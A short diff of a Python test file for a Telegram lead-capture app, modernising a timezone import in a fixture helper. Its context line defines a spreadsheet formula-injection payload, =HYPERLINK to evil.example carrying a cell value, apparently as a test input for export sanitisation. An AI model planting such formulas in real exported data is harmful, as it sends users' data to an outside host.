@@ -16,9 +16,9 @@ HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'
 
 
 def _lead(**fields: object) -> Lead:
-    from datetime import datetime, timezone
+    from datetime import UTC, datetime
 
-    now = datetime(2026, 11, 29, tzinfo=timezone.utc)
+    now = datetime(2026, 11, 29, tzinfo=UTC)
     values: dict[str, object] = {"id": 1, "created_at": now, "updated_at": now, "status": "new", "name": None,
                                  "telegram_user_id": 1, "telegram_username": None, "chat_id": 1, "intended_use": None,
                                  "intended_use_text": None, "people": None, "availability": [], "availability_text": None,
